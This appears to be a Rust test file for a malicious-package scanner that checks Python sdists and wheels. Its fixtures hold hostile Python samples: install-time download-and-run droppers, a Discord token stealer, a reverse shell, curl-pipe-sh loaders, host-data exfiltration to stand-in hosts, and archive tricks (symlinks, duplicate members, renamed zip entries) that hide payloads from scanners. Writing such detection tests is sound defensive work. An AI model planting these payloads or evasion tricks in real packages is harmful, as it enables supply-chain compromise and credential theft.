//! Whole-archive scans of synthetic distributions: verdicts, rule hits and failing closed.

use std::io::Write;
use std::sync::OnceLock;

use palisade_scan::{ScanConfig, Scanner, Severity, Verdict};

fn scanner() -> &'static Scanner {
    static S: OnceLock<Scanner> = OnceLock::new();
    S.get_or_init(|| Scanner::new(ScanConfig::default()).unwrap())
}

fn sdist(name: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let mut t = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    let root = name.trim_end_matches(".tar.gz");
    let (n, v) = root.rsplit_once('-').unwrap();
    let pkg_info = format!("Metadata-Version: 2.1\nName: {n}\nVersion: {v}\nSummary: A demo package for tests\n");
    let mut all: Vec<(String, String)> = vec![(format!("{root}/PKG-INFO"), pkg_info)];
    all.extend(files.iter().map(|(p, c)| (format!("{root}/{p}"), c.to_string())));
    for (p, c) in all {
        let mut h = tar::Header::new_gnu();
        h.set_size(c.len() as u64);
        h.set_mode(0o644);
        t.append_data(&mut h, p, c.as_bytes()).unwrap();
    }
    t.into_inner().unwrap().finish().unwrap()
}

fn wheel(files: &[(&str, &str)]) -> Vec<u8> {
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut buf);
        let o = zip::write::SimpleFileOptions::default();
        for (p, c) in files {
            z.start_file(*p, o).unwrap();
            z.write_all(c.as_bytes()).unwrap();
        }
        z.finish().unwrap();
    }
    buf.into_inner()
}

const SETUP_OK: &str = "from setuptools import setup\nsetup(name='demo')\n";

#[test]
fn honest_sdist_is_clean() {
    let data = sdist(
        "demo_tool-1.0.tar.gz",
        &[("setup.py", SETUP_OK), ("demo_tool/__init__.py", "import requests\ndef get(u):\n    return requests.get(u)\n")],
    );
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    assert_eq!(r.project.as_deref(), Some("demo_tool"));
}

#[test]
fn install_time_dropper_is_malicious() {
    let setup = "import os, urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve('http://203.0.113.7/x', '/tmp/x')\nos.system('chmod +x /tmp/x && /tmp/x')\nsetup(name='demo')\n";
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let f = r.findings.iter().find(|f| f.rule == "py-install-download-exec").unwrap();
    assert_eq!(f.path, "demo_tool-1.0/setup.py");
    assert_eq!(f.line, Some(3));
    assert!(f.excerpt.contains("urlretrieve"));
}

#[test]
fn stealer_in_a_wheel_is_flagged_by_rules() {
    let code = "import os, requests\nLOCAL = os.getenv('LOCALAPPDATA')\npaths = [LOCAL + '\\\\Discord\\\\Local Storage\\\\leveldb']\nHOOK = 'https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789'\ndef send(t):\n    requests.post(HOOK, json={'content': t})\n";
    let data = wheel(&[
        ("stealer/__init__.py", "from .core import send\n"),
        ("stealer/core.py", code),
        ("stealer-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: stealer\nVersion: 1.0\n"),
    ]);
    let r = scanner().scan_bytes(&data, "stealer-1.0-py3-none-any.whl");
    let rules: Vec<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
    assert!(rules.contains(&"exfil-discord-webhook"), "{rules:?}");
    assert!(rules.contains(&"cred-discord-token"), "{rules:?}");
    assert!(r.verdict >= Verdict::Suspicious, "{:#?}", r.findings);
}

#[test]
fn typosquat_name_is_reported() {
    let data = sdist("reqeusts-2.0.tar.gz", &[("setup.py", SETUP_OK)]);
    let r = scanner().scan_bytes(&data, "reqeusts-2.0.tar.gz");
    assert!(r.findings.iter().any(|f| f.rule == "meta-typosquat" && f.message.contains("requests")), "{:#?}", r.findings);
}

#[test]
fn unreadable_archive_fails_closed() {
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK)]);
    let r = scanner().scan_bytes(&data[..data.len() / 2], "demo_tool-1.0.tar.gz");
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(!r.complete);
    assert!(r.findings.iter().any(|f| f.rule == "scan-incomplete"));
}

#[test]
fn tests_and_docs_weigh_little() {
    let code = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK), ("tests/test_codec.py", code)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    assert!(r.findings.iter().any(|f| f.rule == "py-decode-exec"), "still reported");
}

#[test]
fn endpoint_and_request_in_different_files() {
    let conf = "ENDPOINT = 'https://abcdefghijklmnop.oastify.com/x'\n";
    let send = "import requests\nfrom .conf import ENDPOINT\ndef ping(d):\n    requests.post(ENDPOINT, data=d)\n";
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK), ("demo_tool/conf.py", conf), ("demo_tool/send.py", send)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    let f = r.findings.iter().find(|f| f.rule == "exfil-request-catcher").expect("rule fires");
    assert_eq!(f.severity, palisade_scan::Severity::Medium, "{f:?}");
    // Without any network use in the package the same URL weighs low.
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK), ("demo_tool/conf.py", conf)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.findings.iter().find(|f| f.rule == "exfil-request-catcher").unwrap().severity, palisade_scan::Severity::Low);
}

#[test]
fn packed_payload_executed_in_setup() {
    let blob = "9".repeat(6000);
    // Code built from character codes is decoding, whatever the line length.
    let setup = format!("from setuptools import setup\nP = [{blob}]\nexec(''.join(chr(c) for c in P))\nsetup(name='demo')\n");
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", &setup)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert!(r.findings.iter().any(|f| f.rule == "py-decode-exec"), "{:#?}", r.findings);
    assert_eq!(r.verdict, Verdict::Malicious);
    // An unknown transformation of a packed blob, executed: the packing is the tell.
    let setup = format!("from setuptools import setup\nfrom helpers import unpack\nP = [{blob}]\nexec(unpack(P))\nsetup(name='demo')\n");
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", &setup)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert!(r.findings.iter().any(|f| f.rule == "py-packed-exec"), "{:#?}", r.findings);
    assert_eq!(r.verdict, Verdict::Malicious);
}

fn rules_of(r: &palisade_scan::Report) -> Vec<&str> {
    r.findings.iter().map(|f| f.rule.as_str()).collect()
}

#[test]
fn import_runs_what_sibling_modules_do() {
    // `__init__` calls a function it imports from a sibling module.
    let init = "from .src_file import *\ninitialize()\n";
    let src = "import getpass, requests\ndef initialize():\n    requests.post('https://example.invalid/c', data=getpass.getuser())\n";
    let data = wheel(&[("demo/__init__.py", init), ("demo/src_file.py", src)]);
    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    assert!(rules_of(&r).contains(&"py-import-exfil-hostinfo"), "{:#?}", r.findings);
    // A module imported by `__init__` whose top level (a class body here) downloads and runs.
    let init = "from demo import loader\n";
    let loader =
        "import subprocess\nclass Loader:\n    subprocess.Popen('curl https://example.invalid/x.exe -o x.exe && x.exe', shell=True)\n";
    let data = wheel(&[("demo/__init__.py", init), ("demo/loader.py", loader)]);
    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    let f = r.findings.iter().find(|f| f.rule == "py-import-download-exec").expect("reported");
    assert_eq!(f.path, "demo/loader.py");
    assert_ne!(r.verdict, Verdict::Clean);
    // The same function, imported but not called at import, is library code.
    let init = "from .src_file import initialize\n";
    let data = wheel(&[("demo/__init__.py", init), ("demo/src_file.py", src)]);
    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    assert!(!rules_of(&r).iter().any(|x| x.starts_with("py-import")), "{:#?}", r.findings);
}

#[test]
fn setup_runs_the_helpers_it_imports() {
    let setup = "from setuptools import setup\nfrom setuptools.command.install import install\nfrom pre_install import pre_install\nclass I(install):\n    def run(self):\n        pre_install()\n        install.run(self)\nsetup(name='demo', cmdclass={'install': I})\n";
    let helper = "import subprocess\ndef pre_install():\n    c = 'curl -H \"Who: $(whoami)\" https://example.invalid/c'\n    subprocess.run(c, shell=True)\n";
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup), ("pre_install.py", helper)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert!(rules_of(&r).contains(&"py-install-download-exec"), "{:#?}", r.findings);
    // Held, not refused: that the helper's command sends what it reads is seen in the helper, not
    // in the package-level summary of what setup.py reaches.
    assert_eq!(r.verdict, Verdict::Suspicious);
    // In setup.py itself, the command is host data sent out at install: refused.
    let setup = "import subprocess
from setuptools import setup
subprocess.run('curl -H \"Who: $(whoami)\" https://example.invalid/c', shell=True)
setup(name='demo')
";
    let r = scanner().scan_bytes(&sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup)]), "demo_tool-1.0.tar.gz");
    assert!(rules_of(&r).contains(&"py-install-exfil-hostinfo"), "{:#?}", r.findings);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn chat_credentials_and_quoted_reverse_shells() {
    // A ten-digit bot id (the current form) with its token, outside any URL.
    let token = format!("TOKEN = '7123456789:AA{}'\n", "b".repeat(33));
    let data = wheel(&[("demo/__init__.py", "X = 1\n"), ("demo/notify.py", &token)]);
    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    assert!(rules_of(&r).contains(&"exfil-telegram-bot"), "{:#?}", r.findings);
    // An order number with a colon is not a token.
    let data = wheel(&[("demo/__init__.py", "ORDER = '7123456789:AB-1'\n")]);
    assert!(!rules_of(&scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl")).contains(&"exfil-telegram-bot"));
    // A reverse shell quoted inside another string.
    let shell = "CMD = \"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\\\"203.0.113.5\\\",4444));os.dup2(s.fileno(),0);pty.spawn(\\'/bin/sh\\')'\"\n";
    let data = wheel(&[("demo/__init__.py", "X = 1\n"), ("demo/tool.py", shell)]);
    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    assert!(rules_of(&r).contains(&"dropper-reverse-shell"), "{:#?}", r.findings);
}

#[test]
fn reports_do_not_depend_on_member_threads() {
    let threaded = Scanner::new(ScanConfig { member_threads: 3, ..ScanConfig::default() }).unwrap();
    let mut files: Vec<(String, String)> = (0..40).map(|i| (format!("demo/m{i}.py"), format!("import os\nX{i} = os.getcwd()\n"))).collect();
    files.push(("demo/__init__.py".into(), "from .src_file import *\ninitialize()\n".into()));
    files.push((
        "demo/src_file.py".into(),
        "import getpass, requests\ndef initialize():\n    requests.post('https://example.invalid/c', data=getpass.getuser())\n".into(),
    ));
    files.push((
        "demo/hook.py".into(),
        "TOKEN = 'https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGH'\n".into(),
    ));
    let refs: Vec<(&str, &str)> = files.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
    let data = wheel(&refs);
    let one = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    let many = threaded.scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    assert_ne!(one.verdict, Verdict::Clean);
    assert_eq!(one.score, many.score);
    assert_eq!(one.verdict, many.verdict);
    let key = |r: &palisade_scan::Report| r.findings.iter().map(|f| (f.rule.clone(), f.path.clone(), f.line)).collect::<Vec<_>>();
    assert_eq!(key(&one), key(&many));
}

#[test]
fn hostile_files_stay_bounded() {
    // One enormous line of a hundred thousand process calls, a constant repeated into a command
    // line, a path repeated in a command, and a chain of wrappers longer than any fixed bound.
    let calls = format!("import os\n{}\n", "os.system('x');".repeat(100_000));
    let consts = format!("import os\na = '{}'\nos.system({})\n", "y".repeat(16_000), vec!["a"; 20_000].join("+"));
    let paths = format!("import subprocess, requests\nrequests.get(U)\nopen('ab', 'w')\nsubprocess.Popen('{}')\n", "ab ".repeat(200_000));
    let mut chain = String::from("import os\ndef f0():\n    os.system('curl https://example.invalid/x | sh')\n");
    for i in 1..60 {
        chain.push_str(&format!("def f{i}():\n    f{}()\n", i - 1));
    }
    chain.push_str("f59()\n");
    let data = wheel(&[("demo/__init__.py", &chain), ("demo/a.py", &calls), ("demo/b.py", &consts), ("demo/c.py", &paths)]);
    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    assert!(r.complete);
    assert!(r.findings.iter().all(|f| f.excerpt.chars().count() <= 201), "excerpts are clipped");
    // The payload at the end of the wrapper chain still counts at import (one step less: reached through calls).
    assert!(r.findings.iter().any(|f| f.rule == "py-import-download-exec" && f.path == "demo/__init__.py"), "{:#?}", r.findings);
}

#[test]
fn payload_behind_a_large_test_suite_is_still_followed() {
    // 300 KiB of honest tests use up the parse budget for test files; the module the package
    // imports from tests/ is parsed all the same.
    let filler = format!("import os\ndef test_x():\n    assert os.getcwd()\n{}\n", "# filler line of a long test module\n".repeat(3_000));
    let mut files: Vec<(String, String)> = (0..3).map(|i| (format!("demo/tests/test_{i}.py"), filler.clone())).collect();
    // Padded past what is left of the budget, so it is not parsed in the walk.
    let helpers = format!("import subprocess\nsubprocess.Popen('curl https://example.invalid/x.sh | sh', shell=True)\n{filler}");
    files.push(("demo/tests/helpers.py".into(), helpers));
    files.push(("demo/__init__.py".into(), "from .tests import helpers\n".into()));
    let refs: Vec<(&str, &str)> = files.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
    let r = scanner().scan_bytes(&wheel(&refs), "demo-1.0-py3-none-any.whl");
    assert!(r.findings.iter().any(|f| f.rule == "py-import-download-exec" && f.path == "demo/tests/helpers.py"), "{:#?}", r.findings);
    assert_ne!(r.verdict, Verdict::Clean);
}

#[test]
fn test_package_imported_by_name_is_parsed_past_the_budget() {
    // The budget is spent on honest tests; the payload sits in the test package's own
    // `__init__`, which the package imports as `tests`.
    let filler = format!("import os\ndef test_x():\n    assert os.getcwd()\n{}\n", "# filler line of a long test module\n".repeat(3_000));
    let payload = format!("import subprocess\nsubprocess.Popen('curl https://example.invalid/x.sh | sh', shell=True)\n{filler}");
    let threaded = Scanner::new(ScanConfig { member_threads: 2, ..ScanConfig::default() }).unwrap();
    for init in ["from . import tests\n", "import demo.tests\n"] {
        let data = wheel(&[("demo/tests/test_a.py", &filler), ("demo/tests/__init__.py", &payload), ("demo/__init__.py", init)]);
        for s in [scanner(), &threaded] {
            let r = s.scan_bytes(&data, "demo-1.0-py3-none-any.whl");
            assert!(
                r.findings.iter().any(|f| f.rule == "py-import-download-exec" && f.path == "demo/tests/__init__.py"),
                "{:#?}",
                r.findings
            );
        }
    }
}

/// A module whose `start()` downloads code and executes it, for the late-parse tests.
const DOWNLOAD_EXEC_DRIVER: &str =
    "import urllib.request\ndef start():\n    code = urllib.request.urlopen('https://example.invalid/x').read()\n    exec(code)\n";

#[test]
fn module_that_cannot_act_but_calls_one_that_does_is_parsed() {
    // `engine` names nothing that acts, so it is not parsed at first; but its top level calls
    // `driver.start`, which downloads and runs code, and `__init__` imports `engine`: importing
    // the package runs the download. The call is only seen once `engine` is parsed after all.
    let init = "\"\"\"Text to speech.\"\"\"\nfrom . import engine\n";
    let engine = "from . import driver\n\nclass Engine:\n    pass\n\ndriver.start()\n";
    let driver = DOWNLOAD_EXEC_DRIVER;
    // `lazy` does not call it: it stays unparsed, and nothing is reported through it.
    let lazy = "from . import driver\nNAME = 'lazy'\n";
    let threaded = Scanner::new(ScanConfig { member_threads: 2, ..ScanConfig::default() }).unwrap();
    for s in [scanner(), &threaded] {
        let data = wheel(&[("demo/__init__.py", init), ("demo/engine.py", engine), ("demo/driver.py", driver)]);
        let r = s.scan_bytes(&data, "demo-1.0-py3-none-any.whl");
        let f = r.findings.iter().find(|f| f.rule == "py-import-download-exec").unwrap_or_else(|| panic!("{:#?}", r.findings));
        assert!(f.message.contains("demo/driver.py"), "{f:#?}");
        let data = wheel(&[("demo/__init__.py", "from . import lazy\n"), ("demo/lazy.py", lazy), ("demo/driver.py", driver)]);
        let r = s.scan_bytes(&data, "demo-1.0-py3-none-any.whl");
        assert!(!rules_of(&r).contains(&"py-import-download-exec"), "{:#?}", r.findings);
    }
}

#[test]
fn late_parse_budget_is_taken_in_walk_order() {
    // 17 MiB of modules that import but cannot act fill the 16 MiB kept for late parses. The
    // room goes to files in walk order, whatever thread analyses them: `engine` before the
    // padding is kept and parsed; after it, it is not (the budget bounds memory). Either way
    // one thread and three agree.
    let init = "from . import engine\n";
    let engine = "from . import driver\n\ndriver.start()\n";
    let driver = DOWNLOAD_EXEC_DRIVER;
    let pad = format!("import json\n{}", "# padding line of a large generated module\n".repeat(24 << 10));
    let pads: Vec<String> = (0..17).map(|i| format!("demo/pad{i:02}.py")).collect();
    let threaded = Scanner::new(ScanConfig { member_threads: 3, ..ScanConfig::default() }).unwrap();
    for engine_first in [true, false] {
        let mut files = vec![("demo/__init__.py", init), ("demo/driver.py", driver)];
        if engine_first {
            files.push(("demo/engine.py", engine));
        }
        files.extend(pads.iter().map(|p| (p.as_str(), pad.as_str())));
        if !engine_first {
            files.push(("demo/engine.py", engine));
        }
        let data = wheel(&files);
        let one = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
        let three = threaded.scan_bytes(&data, "demo-1.0-py3-none-any.whl");
        assert_eq!(rules_of(&one), rules_of(&three), "engine first: {engine_first}");
        assert_eq!(rules_of(&one).contains(&"py-import-download-exec"), engine_first, "{:#?}", one.findings);
    }
}

#[test]
fn files_held_without_a_sink_are_parsed_once_the_package_has_one() {
    // `__init__` and the host-details helper name nothing that acts, so they are held back
    // unparsed; the network module makes the package one that can act, and the held files are
    // analysed in full after all, whichever order the archive has: `__init__` sends what the
    // helper collects through the network module's function.
    let init = "from .util import host\nfrom . import net\nnet.send(host())\n";
    let util = "import getpass\ndef host():\n    return getpass.getuser()\n";
    let net = "import requests, getpass\ndef send(x):\n    requests.post('https://example.invalid/c', data=getpass.getuser())\n";
    let threaded = Scanner::new(ScanConfig { member_threads: 2, ..ScanConfig::default() }).unwrap();
    for order in [
        [("demo/__init__.py", init), ("demo/util.py", util), ("demo/net.py", net)],
        [("demo/net.py", net), ("demo/util.py", util), ("demo/__init__.py", init)],
    ] {
        for s in [scanner(), &threaded] {
            let r = s.scan_bytes(&wheel(&order), "demo-1.0-py3-none-any.whl");
            let f = r.findings.iter().find(|f| f.rule == "py-import-exfil-hostinfo").unwrap_or_else(|| panic!("{:#?}", r.findings));
            assert_eq!((f.path.as_str(), f.line), ("demo/__init__.py", Some(3)));
        }
    }
    // Without the network module nothing can act: no behaviour, but the text checks still ran.
    let hidden = format!("X = 1{}import os\n", " ".repeat(200));
    let data = wheel(&[("demo/__init__.py", init), ("demo/util.py", util), ("demo/pad.py", &hidden)]);
    for s in [scanner(), &threaded] {
        let r = s.scan_bytes(&data, "demo-1.0-py3-none-any.whl");
        assert!(!rules_of(&r).iter().any(|x| x.starts_with("py-import")), "{:#?}", r.findings);
        assert!(rules_of(&r).contains(&"py-hidden-code"), "{:#?}", r.findings);
    }
}

#[test]
fn sinks_in_pth_files_and_test_packages_make_the_package_act() {
    // A `.pth` file is the only file with a sink; the helper it calls is held, then analysed.
    let pth = "import urllib.request, demo.h; urllib.request.urlopen('https://example.invalid/c?u=' + demo.h.u())\n";
    let helper = "import getpass\ndef u():\n    return getpass.getuser()\n";
    let data = wheel(&[("demo/h.py", helper), ("demo-init.pth", pth)]);
    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // The payload lives in a test package that `__init__` imports with a formatter's
    // parenthesised import: the package can act after all, and `__init__` is parsed.
    let init = "from .tests import (\n    boot,\n)\nboot()\n";
    let tests = "import subprocess\ndef boot():\n    subprocess.Popen('curl https://example.invalid/x.sh | sh', shell=True)\n";
    let data = wheel(&[("demo/__init__.py", init), ("demo/tests/__init__.py", tests)]);
    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    assert!(rules_of(&r).iter().any(|x| x.starts_with("py-import")), "{:#?}", r.findings);
}

#[test]
fn a_wheel_scanned_after_its_sdist_reports_as_if_scanned_alone() {
    let files = [
        ("demo_tool/__init__.py", "from .net import ping\nping()\n"),
        (
            "demo_tool/net.py",
            "import socket, urllib.request\ndef ping():\n    urllib.request.urlopen('http://203.0.113.5/?h=' + socket.gethostname())\n",
        ),
    ];
    let sd = sdist("demo_tool-1.0.tar.gz", &files);
    let whl = wheel(&files);
    let name = "demo_tool-1.0-py3-none-any.whl";
    // The sdist's analyses of the two modules are kept and reused for the wheel's copies.
    let warm = Scanner::new(ScanConfig::default()).unwrap();
    let sdist_report = warm.scan_bytes(&sd, "demo_tool-1.0.tar.gz");
    let reused = warm.scan_bytes(&whl, name);
    let cold = Scanner::new(ScanConfig { reuse_bytes: 0, ..ScanConfig::default() }).unwrap();
    let alone = cold.scan_bytes(&whl, name);
    let comparable = |r: &palisade_scan::Report| {
        let mut v = serde_json::to_value(r).unwrap();
        v.as_object_mut().unwrap().remove("duration_ms");
        v
    };
    assert_eq!(comparable(&reused), comparable(&alone));
    assert_ne!(alone.verdict, Verdict::Clean, "{:#?}", alone.findings);
    assert!(rules_of(&sdist_report).iter().any(|r| r.starts_with("py-import")), "{:?}", rules_of(&sdist_report));
    assert!(
        reused.findings.iter().all(|f| !f.path.starts_with("demo_tool-1.0/")),
        "findings name the wheel's members, not the sdist's: {:#?}",
        reused.findings
    );
}

/// The attack's payload: download a second stage and run it.
const STAGE2: &str = "import urllib.request\nexec(urllib.request.urlopen(\"http://evil.invalid/stage2.py\").read())\n";

/// An sdist built from raw tar entries: `(path, Ok(content))` for files, `(path, Err(target))`
/// for symlinks (hard links when the target starts with `=`). `end` false cuts the end marker.
fn raw_sdist(entries: &[(&str, Result<&str, &str>)], end: bool) -> Vec<u8> {
    let mut t = tar::Builder::new(Vec::new());
    for (p, e) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_mode(0o644);
        match e {
            Ok(c) => {
                h.set_size(c.len() as u64);
                t.append_data(&mut h, p, c.as_bytes()).unwrap();
            }
            Err(target) => {
                let (kind, target) =
                    if let Some(t) = target.strip_prefix('=') { (tar::EntryType::Link, t) } else { (tar::EntryType::Symlink, *target) };
                h.set_entry_type(kind);
                h.set_size(0);
                t.append_link(&mut h, p, target).unwrap();
            }
        }
    }
    let mut raw = t.into_inner().unwrap();
    if !end {
        raw.truncate(raw.len() - 1024);
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&raw).unwrap();
    gz.finish().unwrap()
}

const PKG_INFO: &str = "Metadata-Version: 2.1\nName: demo_tool\nVersion: 1.0\n";

#[test]
fn setup_py_linked_to_a_payload_is_judged_as_setup_py() {
    let real = raw_sdist(&[("demo_tool-1.0/PKG-INFO", Ok(PKG_INFO)), ("demo_tool-1.0/setup.py", Ok(STAGE2))], true);
    let real = scanner().scan_bytes(&real, "demo_tool-1.0.tar.gz");
    assert_eq!(real.verdict, Verdict::Malicious, "{:#?}", real.findings);
    for link in ["docs/notes.txt", "=demo_tool-1.0/docs/notes.txt"] {
        let data = raw_sdist(
            &[
                ("demo_tool-1.0/PKG-INFO", Ok(PKG_INFO)),
                ("demo_tool-1.0/docs/notes.txt", Ok(STAGE2)),
                ("demo_tool-1.0/setup.py", Err(link)),
            ],
            true,
        );
        let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
        assert_eq!(r.verdict, Verdict::Malicious, "{link}: {:#?}", r.findings);
        assert!(r.findings.iter().any(|f| f.path == "demo_tool-1.0/setup.py" && f.rule.starts_with("py-")), "{link}: {:#?}", r.findings);
    }
}

#[test]
fn regular_setup_py_replaced_by_a_link_is_not_clean() {
    let data = raw_sdist(
        &[
            ("demo_tool-1.0/PKG-INFO", Ok(PKG_INFO)),
            ("demo_tool-1.0/docs/notes.txt", Ok(STAGE2)),
            ("demo_tool-1.0/setup.py", Ok(SETUP_OK)),
            ("demo_tool-1.0/setup.py", Err("docs/notes.txt")),
        ],
        true,
    );
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert!(!r.complete);
    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    assert!(rules_of(&r).contains(&"archive-duplicate-member"), "{:?}", rules_of(&r));
}

#[test]
fn setup_py_in_a_second_gzip_member_is_judged() {
    let mut data = raw_sdist(&[("demo_tool-1.0/PKG-INFO", Ok(PKG_INFO)), ("demo_tool-1.0/setup.py", Ok(SETUP_OK))], false);
    data.extend(raw_sdist(&[("demo_tool-1.0/setup.py", Ok(STAGE2))], true));
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Alone in the second member (no duplicate name), it is still found.
    let mut data = raw_sdist(&[("demo_tool-1.0/PKG-INFO", Ok(PKG_INFO)), ("demo_tool-1.0/README.txt", Ok("hi"))], false);
    data.extend(raw_sdist(&[("demo_tool-1.0/setup.py", Ok(STAGE2))], true));
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn pth_payload_named_otherwise_in_the_central_directory_is_not_clean() {
    let pth = "import os;exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n";
    let mut data = wheel(&[("tests/helper_data_0001.py", pth), ("demo-1.0.dist-info/METADATA", PKG_INFO)]);
    // The local header says `.pth` (what a streaming installer extracts); the central directory
    // says a test helper.
    let pos = data.windows(25).position(|w| w == b"tests/helper_data_0001.py").unwrap();
    data[pos..pos + 25].copy_from_slice(b"zzzzzzzzzzzz_hidden00.pth");
    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    assert!(r.findings.iter().any(|f| f.path == "zzzzzzzzzzzz_hidden00.pth"), "{:#?}", r.findings);
}

#[test]
fn in_tree_build_backend_under_tests_weighs_as_install_time_code() {
    let pyproject = "[build-system]\nrequires = []\nbuild-backend = \"helpers\"\nbackend-path = [\"tests\"]\n";
    let data = sdist("demo_tool-1.0.tar.gz", &[("pyproject.toml", pyproject), ("tests/helpers.py", STAGE2)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // The same file without the pyproject that makes pip import it is test code.
    let data = sdist("demo_tool-1.0.tar.gz", &[("tests/helpers.py", STAGE2)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn unreadable_test_data_is_a_finding_not_a_verdict() {
    // Starts like a zip, is not one: an archive library's broken fixture.
    let bad = "PK\u{3}\u{4}this is not really a zip archive at all, only its first four bytes";
    let init = ("demo_tool/__init__.py", "X = 1\n");
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK), init, ("tests/data/broken.zip", bad)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    assert!(r.complete);
    let f = r.findings.iter().find(|f| f.rule == "unread-test-data").expect("a finding names it");
    assert_eq!(f.path, "demo_tool-1.0/tests/data/broken.zip");
    // Code that runs at install names it: then it matters, and the scan fails closed.
    let setup = "import zipfile\nfrom setuptools import setup\nzipfile.ZipFile('tests/data/broken.zip').extractall()\nsetup(name='demo')\n";
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup), init, ("tests/data/broken.zip", bad)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
    assert!(rules_of(&r).contains(&"scan-incomplete"), "{:#?}", r.findings);
    // Outside tests and docs an unreadable archive fails closed as before.
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK), init, ("demo_tool/data/broken.zip", bad)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
    assert!(!r.complete);
}

#[test]
fn descriptions_quoting_code_are_prose() {
    let readme = "Demo\n====\n\nRetries made easy::\n\n    import requests\n    from demo import retry\n\n    @retry\n    def get(url):\n        return requests.get(url)\n\nSee https://example.org for more.\n";
    for setup in [
        format!("from setuptools import setup\nsetup(name='demo', long_description={readme:?})\n"),
        format!(
            "from setuptools import setup\nsetup_kwargs = {{\n    'name': 'demo',\n    'long_description': {readme:?},\n}}\nsetup(**setup_kwargs)\n"
        ),
    ] {
        let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", &setup)]);
        let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
        assert_eq!(r.verdict, Verdict::Clean, "{setup}\n{:#?}", r.findings);
        assert!(!rules_of(&r).iter().any(|r| r.starts_with("py-install")), "{:#?}", r.findings);
    }
    // A second stage kept in a string still counts.
